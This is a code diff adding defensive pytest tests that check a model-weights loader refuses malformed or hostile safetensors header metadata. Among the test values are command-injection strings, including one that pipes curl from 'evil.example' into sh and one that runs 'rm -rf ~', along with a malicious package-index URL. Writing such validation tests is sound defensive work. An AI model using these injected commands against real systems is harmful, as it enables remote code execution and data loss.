@@ -1,5 +1,7 @@
+import resource
 import subprocess
 import sys
+import time
 
 import numpy as np
 import pytest
@@ -139,6 +141,90 @@ def test_an_option_that_is_no_longer_known_is_a_config_error_at_its_place(altere
     )
     with pytest.raises(GenkitError, match=r"m\.safetensors: encoder: unknown key 'widht'"):
         genkit.load(path)
+
+
+@pytest.mark.parametrize(
+    ("where", "values"),
+    [
+        ("data", {"source": "\x1b[2J"}),
+        ("data", {"source": "a\nerror: b"}),
+        ("data", {"source": "<script>"}),
+        ("data", {"source": "x" * 300}),
+        ("data", {"shape": []}),
+        ("data", {"shape": [0]}),
+        ("data", {"shape": [-1, 8]}),
+        ("data", {"shape": [10**30]}),
+        ("data", {"shape": [1] * 1000}),
+        ("data", {"range": [0, float("nan")]}),
+        ("data", {"range": [0]}),
+        ("data", {"classes": [1]}),
+        ("data", {"counts": {"<b>": 1}}),
+        ("data", {"counts": {"train": -1}}),
+        ("plugin", {"distribution": "x' && curl evil.example | sh '"}),
+        ("plugin", {"distribution": "--index-url=https://evil.example"}),
+        ("plugin", {"distribution": "git+https://evil.example/x"}),
+        ("plugin", {"distribution": "x\n"}),
+        ("plugin", {"distribution": ""}),
+        ("plugin", {"version": "1'; rm -rf ~; '"}),
+        ("plugin", {"version": "1 --pre"}),
+        ("plugin", {"version": "1\n"}),
+        ("plugin", {"components": ["encoder/<b>"]}),
+        ("plugin", {"components": ["shell/x"]}),
+        ("plugin", {"components": ["encoder/a'\nerror: b"]}),
+        ("plugin", {"sha256": "`x`"}),
+    ],
+)
+def test_what_a_header_says_is_checked(altered, finished, tmp_path, where, values):
+    def change(header):
+        (header["data"] if where == "data" else header["plugins"][0]).update(values)
+
+    path = altered(tmp_path / "m.safetensors", finished.directory.model, change)
+    with pytest.raises(WeightsError, match="metadata 'genkit' are damaged") as caught:
+        genkit.load(path)
+    assert "\n" not in str(caught.value)
+    assert "\x1b" not in str(caught.value)
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, "1" * 10_000, "nul", "", "[]", "3", '"x"', "NaN"])
+def test_odd_json_in_a_header_is_refused(finished, tmp_path, text):
+    save_file({"w": torch.zeros(3)}, tmp_path / "m.safetensors", metadata={weights.KEY: text})
+    with pytest.raises(WeightsError, match="metadata 'genkit' are damaged"):
+        genkit.load(tmp_path / "m.safetensors")
+
+
+def test_a_config_that_is_nested_too_deeply_or_too_long_is_refused(altered, finished, tmp_path):
+    deep = []
+    for _ in range(900):
+        deep = [deep]
+    for value in (deep, ["x" * 2**20]):
+        path = altered(tmp_path / "m.safetensors", finished.directory.model, lambda h, v=value: h["config"].update(a=v))
+        with pytest.raises(GenkitError):
+            genkit.load(path)
+
+
+GIANTS = {
+    "wide": lambda h: h["config"]["encoder"].update(hidden=[30_000, 30_000]),
+    "wider than numbers go": lambda h: h["config"]["encoder"].update(hidden=[2**40]),
+    "many": lambda h: h["config"]["encoder"].update(hidden=[8] * 20_000),
+    "long": lambda h: h["data"].update(shape=[1, 2**16, 2**16]),
+    "latents": lambda h: h["config"]["sampler"].update(latent=2**30),
+}
+
+
+@pytest.mark.parametrize("giant", GIANTS)
+def test_a_small_file_of_a_giant_takes_no_memory_and_no_time(altered, finished, tmp_path, giant):
+    path = altered(tmp_path / "m.safetensors", finished.directory.model, GIANTS[giant])
+    before, start = peak(), time.perf_counter()
+    with pytest.raises(GenkitError) as caught:
+        genkit.load(path)
+    assert peak() - before < 2**28
+    assert time.perf_counter() - start < 10
+    assert "m.safetensors" in str(caught.value)
+
+
+def peak():
+    """The most memory that this process has had, in bytes."""
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
 
 
 def test_tied_tensors_are_saved_once_each_and_come_back(tmp_path):
